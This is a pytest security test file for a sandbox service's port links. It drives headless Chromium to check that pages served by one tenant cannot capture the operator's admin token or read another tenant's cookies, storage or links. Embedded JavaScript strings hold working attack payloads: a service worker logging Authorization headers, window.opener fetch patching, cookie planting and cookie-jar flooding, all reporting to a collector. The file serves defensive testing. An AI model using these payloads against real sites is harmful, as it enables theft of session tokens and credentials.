"""A tenant's web page must never become the operator: attacks from a page a
sandbox serves through its port link, in a real headless browser (Debian's
chromium and chromium-driver, driven by selenium from PyPI), against a real
``corral serve`` with an operator token and a tenant.

Two tests. The first: the tenant's sandbox serves (busybox ``httpd``) an attack page, a service
worker script sent with ``Service-Worker-Allowed: /``, and a collector CGI
that writes whatever reaches it to ``/tmp/captured.log`` inside the
sandbox. The browser opens the tenant's link; the page tries to register
its worker for the whole origin and for the service's origin, then the
operator opens the dashboard with the admin token in the same browser and
opens a page of the tenant's from it (``window.opener``); that page patches
the opener's ``fetch``, reads its address and document, frames the
dashboard, and reads cookies, ``localStorage`` and ``sessionStorage``.
Whatever any of it saw is sent to the collector. The test reads the log
inside the sandbox and asserts the admin token is not in it; a worker
within the link's own pages does capture a navigation there (the control:
the capture itself works in this browser).

Port links live on an origin of their own (``server.ports_listen``), so
none of this reaches the API's or the dashboard's origin.

The second: each link is an origin of its own (``PORT-ID.localhost``).
The operator opens tenant B's link, then tenant A's, in one browser; A's
page looks for B's link (its URL holds B's token) in
``navigator.serviceWorker.getRegistrations()``, ``caches.keys()`` and, from
a worker, ``clients.matchAll({includeUncontrolled: true})``, reads
``localStorage`` and ``document.cookie``, and overwrites B's session cookie
(also with ``domain=localhost``); another loopback app sets an HttpOnly
cookie and 180 cookies of 4,000 bytes on ``localhost`` and ``127.0.0.1``.
B's session cookie stays B's, no cookie of the other app reaches either
sandbox, B's link still answers (no 431), and the dashboard's token, given
in its form, is nowhere in the browser's profile (History, Sessions, ...)
while the links' URLs, which the browser did visit, are (the control).
"""

from __future__ import annotations

import http.server
import shutil
import socketserver
import tempfile
import threading
import time
import urllib.parse
import uuid
from pathlib import Path

import pytest

import corral
from corral.testing import LocalServer

from conftest import corral_binary, server_config

pytestmark = pytest.mark.server

webdriver = pytest.importorskip("selenium.webdriver")

ADMIN = "admin" + uuid.uuid4().hex
TENANT = "mallory" + uuid.uuid4().hex

COLLECT = r"""#!/bin/sh
printf 'Content-Type: text/plain\r\nCache-Control: no-store\r\n\r\n'
echo "$QUERY_STRING" >> /tmp/captured.log
echo ok
"""

# Sent with Service-Worker-Allowed: / so that, on an origin shared with the
# service, it may claim every page of it.
WORKER = r"""#!/bin/sh
printf 'Content-Type: text/javascript\r\nService-Worker-Allowed: /\r\nCache-Control: no-store\r\n\r\n'
cat <<'JS'
const collect = new URL("collect", self.location).href;
const report = (what) => fetch(collect + "?sw-saw=" + encodeURIComponent(what)).catch(() => {});
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (e) => {
  const auth = e.request.headers.get("authorization") || "";
  report(e.request.url + " auth=" + auth);
});
JS
"""

PAGE = r"""<!doctype html><title>a tenant's app</title><p id="status">starting</p>
<script>
const API = "__API__";
const report = (k, v) => fetch("cgi-bin/collect?" + k + "=" + encodeURIComponent(v)).catch(() => {});
async function activated(reg) {
  const w = reg.installing || reg.waiting || reg.active;
  if (w.state === "activated") return;
  await new Promise((r) => w.addEventListener("statechange", () => w.state === "activated" && r()));
}
async function attempt(name, scope) {
  try {
    const reg = await navigator.serviceWorker.register("cgi-bin/sw.js", { scope });
    await activated(reg);
    await report(name, "ok " + reg.scope);
  } catch (e) {
    await report(name, "refused " + e.name);
  }
}
(async () => {
  await attempt("reg-root", "/");
  await attempt("reg-api", API + "/");
  await attempt("reg-control", "cgi-bin/");
  localStorage.setItem("planted", "by-the-tenant");
  document.cookie = "planted=by-the-tenant; path=/";
  // The control: a navigation within the worker's own scope.
  const f = document.createElement("iframe");
  f.src = "cgi-bin/collect?nav=control-marker";
  f.onload = () => { document.getElementById("status").textContent = "armed"; };
  document.body.appendChild(f);
})();
</script>
"""

OPENED = r"""<!doctype html><title>opened from the dashboard</title><p id="status">probing</p>
<script>
const API = "__API__";
const report = (k, v) => fetch("cgi-bin/collect?" + k + "=" + encodeURIComponent(v)).catch(() => {});
const probes = {
  "opener-null": () => String(window.opener === null),
  "opener-href": () => window.opener.location.href,
  "opener-html": () => window.opener.document.documentElement.outerHTML.slice(0, 4000),
  "opener-patch": () => {
    const real = window.opener.fetch;
    window.opener.fetch = function (url, init) {
      report("opener-fetch", String(url) + " " + JSON.stringify(init || {}));
      return real.apply(this, arguments);
    };
    return "patched";
  },
  "cookie": () => document.cookie,
  "local": () => JSON.stringify(Object.assign({}, localStorage)),
  "session": () => JSON.stringify(Object.assign({}, sessionStorage)),
};
(async () => {
  for (const [k, f] of Object.entries(probes)) {
    let v;
    try { v = f(); } catch (e) { v = "refused " + e.name; }
    await report(k, v);
  }
  const frame = document.createElement("iframe");
  frame.src = API + "/dashboard";
  frame.onload = async () => {
    let v;
    try { v = frame.contentWindow.document.documentElement.outerHTML.slice(0, 4000); } catch (e) { v = "refused " + e.name; }
    await report("iframe", v);
    document.getElementById("status").textContent = "done";
  };
  document.body.appendChild(frame);
})();
</script>
"""


# Off the network: no background service of Chromium's reaches out, and
# no name resolves but loopback's (``*.localhost`` Chromium maps itself).
OFFLINE = (
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-default-apps",
    "--disable-sync",
    "--no-pings",
    "--disable-domain-reliability",
    "--metrics-recording-only",
    "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE localhost, EXCLUDE 127.0.0.1, EXCLUDE *.localhost",
)


def _browser(profile=None):
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    driver = shutil.which("chromedriver")
    if not chromium or not driver:
        pytest.fail("this test needs chromium and chromium-driver (apt-get install chromium chromium-driver)")
    from selenium.webdriver.chrome.service import Service

    opts = webdriver.ChromeOptions()
    opts.binary_location = chromium
    for arg in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--window-size=1200,800", *OFFLINE):
        opts.add_argument(arg)
    if profile is not None:
        opts.add_argument(f"--user-data-dir={profile}")
    return webdriver.Chrome(service=Service(driver), options=opts)


def _login(browser, api, token):
    from selenium.webdriver.common.by import By

    browser.get(f"{api}/dashboard")
    browser.find_element(By.ID, "token-input").send_keys(token)
    browser.find_element(By.ID, "login-button").click()


def _wait(what, predicate, timeout=60.0):
    deadline = time.monotonic() + timeout
    while True:
        value = predicate()
        if value:
            return value
        if time.monotonic() > deadline:
            pytest.fail(f"never: {what}")
        time.sleep(0.25)


@pytest.fixture(scope="module")
def service():
    config = server_config(
        server={"admin_token": ADMIN, "tenants": {"mallory": {"token": TENANT}}},
    )
    server = LocalServer(corral_binary(), config=config)
    server.start()
    try:
        yield server
    finally:
        server.close()


def test_a_page_a_sandbox_serves_never_gets_the_operators_token(service, corral_spec):
    from selenium.webdriver.common.by import By

    api = service.url
    tenant = corral.Client(api, token=TENANT)
    with tenant.sandbox(spec=corral_spec()) as sb:
        sb.write_file("/www/cgi-bin/collect", COLLECT, mode="755", mkdirs=True)
        sb.write_file("/www/cgi-bin/sw.js", WORKER, mode="755")
        sb.write_file("/www/index.html", PAGE.replace("__API__", api))
        sb.write_file("/www/opened.html", OPENED.replace("__API__", api))
        started = sb.run(
            "touch /tmp/captured.log && httpd -p 8080 -h /www </dev/null >/dev/null 2>&1"
            " && for i in $(seq 1 50); do wget -q -O /dev/null http://127.0.0.1:8080/ && exit 0; sleep 0.1; done; exit 1"
        )
        assert started.exit_code == 0, started.stderr
        link = sb.port_url(8080)

        def captured() -> str:
            r = sb.run("cat /tmp/captured.log")
            return urllib.parse.unquote_plus(r.stdout)

        browser = _browser()
        try:
            # The tenant's page arms itself.
            browser.get(link)
            _wait("the tenant's page armed", lambda: browser.find_element(By.ID, "status").text == "armed")
            _wait("the worker's control capture", lambda: "sw-saw=" in captured() and "control-marker" in captured())

            # The operator opens the dashboard in the same browser.
            _login(browser, api, ADMIN)
            _wait("the dashboard as the operator", lambda: browser.find_element(By.ID, "who").text == "as operator")
            assert ADMIN not in browser.current_url
            dashboard = browser.current_window_handle

            # ... and opens a page of the tenant's from it.
            browser.execute_script("window.open(arguments[0], 'tenant')", link + "opened.html")
            _wait("the opened page", lambda: len(browser.window_handles) == 2)
            other = [h for h in browser.window_handles if h != dashboard][0]
            browser.switch_to.window(other)
            _wait("the opened page's probes", lambda: browser.find_element(By.ID, "status").text == "done")
            browser.switch_to.window(dashboard)
            # The dashboard polls every 2 s with its token: a patched fetch
            # or a worker would have seen several of them by now.
            time.sleep(6)
            assert browser.find_element(By.ID, "who").text == "as operator"
        finally:
            browser.quit()

        log = captured()
        print(log)
        # The capture works (the control), and each probe ran.
        assert "control-marker" in log and "sw-saw=" in log, log
        for probe in ("reg-root=", "reg-api=", "opener-null=", "opener-href=", "opener-patch=", "cookie=",
                      "local=", "session=", "iframe="):
            assert probe in log, f"{probe} did not report:\n{log}"
        # The token never reached the sandbox, by any of them.
        assert ADMIN not in log, f"the sandbox captured the operator's token:\n{log}"
        assert not link.startswith(api + "/"), f"a port link on the API's origin: {link}"
        # How each was stopped: no worker for the service's origin, and none
        # beyond the link's own pages; no handle on the dashboard.
        assert "reg-api=refused" in log, log
        assert "reg-root=refused" in log, log
        assert "opener-patch=refused" in log and "opener-html=refused" in log, log
        assert "as operator" not in log, log
    tenant.close()


VICTIM = "alice" + uuid.uuid4().hex
ATTACKER = "eve" + uuid.uuid4().hex

# Both tenants' pages log what reaches their server: the query and the
# cookies the browser sent.
LOG = r"""#!/bin/sh
printf 'Content-Type: text/plain\r\nCache-Control: no-store\r\n\r\n'
echo "q=$QUERY_STRING cookie=$HTTP_COOKIE" >> /tmp/captured.log
echo ok
"""

# Tenant B's server sets its session cookie, as an app's login does (the
# proxy sends a link's server only cookies it set itself).
LOGIN = r"""#!/bin/sh
printf 'Content-Type: text/plain\r\nSet-Cookie: session=victim-session; Path=/\r\nCache-Control: no-store\r\n\r\n'
echo ok
"""

# Tenant B keeps things a page keeps: a worker, a cache named after its
# address (which holds its link's token), storage and a session cookie.
VICTIM_WORKER = "self.addEventListener('install', () => self.skipWaiting());\n"
VICTIM_PAGE = r"""<!doctype html><title>tenant B</title><p id="status">starting</p>
<script>
(async () => {
  localStorage.setItem("b-secret", "victim-storage");
  await fetch("cgi-bin/login");
  await caches.open("b-cache " + location.href);
  const reg = await navigator.serviceWorker.register("sw.js");
  document.getElementById("status").textContent = "armed " + reg.scope;
  await fetch("cgi-bin/log?armed");
})();
</script>
"""

# Tenant A looks for B everywhere a page of the same origin would find it.
ATTACKER_WORKER = r"""
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
self.addEventListener("message", (e) => {
  e.waitUntil(self.clients.matchAll({ includeUncontrolled: true, type: "all" }).then((all) =>
    e.source.postMessage(all.map((c) => c.url).join(" "))));
});
"""
ATTACKER_PAGE = r"""<!doctype html><title>tenant A</title><p id="status">probing</p>
<script>
const report = (k, v) => fetch("cgi-bin/log?" + k + "=" + encodeURIComponent(v)).catch(() => {});
async function clientsSeen() {
  const reg = await navigator.serviceWorker.register("sw.js");
  const w = reg.installing || reg.waiting || reg.active;
  if (w.state !== "activated") {
    await new Promise((r) => w.addEventListener("statechange", () => w.state === "activated" && r()));
  }
  return await new Promise((resolve) => {
    navigator.serviceWorker.addEventListener("message", (e) => resolve(String(e.data)));
    w.postMessage("list");
    setTimeout(() => resolve("no answer"), 10000);
  });
}
const probes = {
  "registrations": async () => (await navigator.serviceWorker.getRegistrations()).map((r) => r.scope).join(" "),
  "caches": async () => (await caches.keys()).join(" "),
  "clients": clientsSeen,
  "local": async () => JSON.stringify(Object.assign({}, localStorage)),
  "cookie": async () => document.cookie,
  "plant": async () => {
    document.cookie = "session=planted-by-a; path=/";
    document.cookie = "session=planted-by-a-domain; domain=localhost; path=/";
    return document.cookie;
  },
};
(async () => {
  for (const [k, f] of Object.entries(probes)) {
    let v;
    try { v = await f(); } catch (e) { v = "refused " + e.name; }
    await report(k, v);
  }
  document.getElementById("status").textContent = "done";
})();
</script>
"""

# Another app on loopback (not corral): an HttpOnly session cookie, and a
# page that fills the host's cookie jar with 180 cookies of 4,000 bytes.
OTHER_SECRET = "other-app-" + uuid.uuid4().hex
FLOOD = r"""<!doctype html><title>flood</title><p id="status">flooding</p>
<script>
const big = "x".repeat(3990);
for (let i = 0; i < 180; i++) document.cookie = "big" + i + "=" + big + "; path=/";
document.getElementById("status").textContent = "flooded " + document.cookie.length;
</script>
"""


class _OtherApp(http.server.BaseHTTPRequestHandler):
    def do_GET(self):  # noqa: N802 (the standard library's name)
        body = (FLOOD if self.path.startswith("/flood") else "<p id=status>set</p>").encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Set-Cookie", f"other_session={OTHER_SECRET}; HttpOnly; Path=/")
        self.send_header("Set-Cookie", f"other_domain={OTHER_SECRET}; Domain=localhost; HttpOnly; Path=/")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def tenants():
    config = server_config(
        server={"admin_token": ADMIN, "tenants": {"alice": {"token": VICTIM}, "eve": {"token": ATTACKER}}},
    )
    server = LocalServer(corral_binary(), config=config)
    server.start()
    try:
        yield server
    finally:
        server.close()


def _serve(sb, files):
    for path, (text, mode) in files.items():
        sb.write_file(path, text, mode=mode, mkdirs=True)
    started = sb.run(
        "touch /tmp/captured.log && httpd -p 8080 -h /www </dev/null >/dev/null 2>&1"
        " && for i in $(seq 1 50); do wget -q -O /dev/null http://127.0.0.1:8080/ && exit 0; sleep 0.1; done; exit 1"
    )
    assert started.exit_code == 0, started.stderr


def _captured(sb) -> str:
    return urllib.parse.unquote_plus(sb.run("cat /tmp/captured.log").stdout)


def test_each_link_is_an_origin_of_its_own_and_the_dashboards_token_stays_out_of_history(tenants, corral_spec):
    from selenium.webdriver.common.by import By

    api = tenants.url
    other = socketserver.ThreadingTCPServer(("127.0.0.1", 0), _OtherApp)
    other.daemon_threads = True
    threading.Thread(target=other.serve_forever, daemon=True).start()
    other_port = other.server_address[1]
    victim = corral.Client(api, token=VICTIM)
    attacker = corral.Client(api, token=ATTACKER)
    profile = tempfile.mkdtemp(prefix="corral-chromium-")
    try:
        with victim.sandbox(spec=corral_spec()) as b, attacker.sandbox(spec=corral_spec()) as a:
            _serve(b, {
                "/www/index.html": (VICTIM_PAGE, "644"),
                "/www/sw.js": (VICTIM_WORKER, "644"),
                "/www/cgi-bin/log": (LOG, "755"),
                "/www/cgi-bin/login": (LOGIN, "755"),
            })
            _serve(a, {
                "/www/index.html": (ATTACKER_PAGE, "644"),
                "/www/sw.js": (ATTACKER_WORKER, "644"),
                "/www/cgi-bin/log": (LOG, "755"),
            })
            b_link, a_link = b.port_url(8080), a.port_url(8080)
            b_token = b.port_link(8080)["token"]
            assert b_token in b_link

            browser = _browser(profile)
            try:
                # Another loopback app sets its HttpOnly cookies, on both
                # loopback names.
                for host in ("localhost", "127.0.0.1"):
                    browser.get(f"http://{host}:{other_port}/")
                    _wait("the other app", lambda: browser.find_element(By.ID, "status").text == "set")

                # The operator signs in to the dashboard, and opens B's link,
                # then A's in another window (B's stays open).
                _login(browser, api, ADMIN)
                _wait("the dashboard as the operator", lambda: browser.find_element(By.ID, "who").text == "as operator")
                browser.switch_to.new_window("window")
                browser.get(b_link)
                _wait("B's page armed", lambda: browser.find_element(By.ID, "status").text.startswith("armed"))
                browser.switch_to.new_window("window")
                browser.get(a_link)
                _wait("A's probes", lambda: browser.find_element(By.ID, "status").text == "done", timeout=90)

                # B's page again: which session cookie does B's server get?
                browser.get(b_link + "cgi-bin/log?after")
                # The other app floods the loopback names' cookie jars; B's
                # link still answers.
                for host in ("localhost", "127.0.0.1"):
                    browser.get(f"http://{host}:{other_port}/flood")
                    _wait("the flood", lambda: browser.find_element(By.ID, "status").text.startswith("flooded"))
                browser.get(b_link + "cgi-bin/log?after-flood")
                body = browser.find_element(By.TAG_NAME, "body").text
                flooded = body.strip() == "ok"
                history = browser.execute_script("return window.history.length")
            finally:
                browser.quit()

            seen_by_a = _captured(a)
            seen_by_b = _captured(b)
            print("A captured:\n" + seen_by_a)
            print("B captured:\n" + seen_by_b)
            # Every probe reported (the attack ran).
            for probe in ("registrations=", "caches=", "clients=", "local=", "cookie=", "plant="):
                assert probe in seen_by_a, f"{probe} did not report:\n{seen_by_a}"
            # The controls: A's worker saw A's own window; B's page armed.
            assert "clients=http" in seen_by_a and a_link.split("/", 3)[2] in seen_by_a, seen_by_a
            assert "q=armed" in seen_by_b, seen_by_b
            # A found nothing of B's: not its link (nor its token), storage
            # or cookie.
            assert b_token not in seen_by_a, f"tenant A read tenant B's link:\n{seen_by_a}"
            assert b_link.split("/", 3)[2] not in seen_by_a, seen_by_a
            assert "victim-storage" not in seen_by_a and "victim-session" not in seen_by_a, seen_by_a
            # A could not set B's cookie: B's server still gets its own.
            after = [line for line in seen_by_b.splitlines() if line.startswith("q=after ")]
            assert after and "session=victim-session" in after[0], seen_by_b
            assert "planted-by-a" not in seen_by_b, seen_by_b
            # No cookie of the other app reached either sandbox.
            assert OTHER_SECRET not in seen_by_a and OTHER_SECRET not in seen_by_b, (seen_by_a, seen_by_b)
            assert "big0=" not in seen_by_b, seen_by_b
            # Many big cookies elsewhere do not make a link answer 431.
            assert flooded and "q=after-flood" in seen_by_b, (body, seen_by_b)
            assert history >= 1
    finally:
        other.shutdown()
        other.server_close()
        victim.close()
        attacker.close()

    # The dashboard's token is nowhere in the browser's profile (History,
    # Sessions, ...): the control, the links' tokens, which the browser did
    # visit, are.
    found = {ADMIN: [], b_token: []}
    for path in Path(profile).rglob("*"):
        if path.is_file():
            try:
                data = path.read_bytes()
            except OSError:
                continue
            for needle in found:
                if needle.encode() in data:
                    found[needle].append(str(path.relative_to(profile)))
    shutil.rmtree(profile, ignore_errors=True)
    assert found[b_token], "the control: the visited links are in the profile (History)"
    assert not found[ADMIN], f"the dashboard's token is in the browser's profile: {found[ADMIN]}"
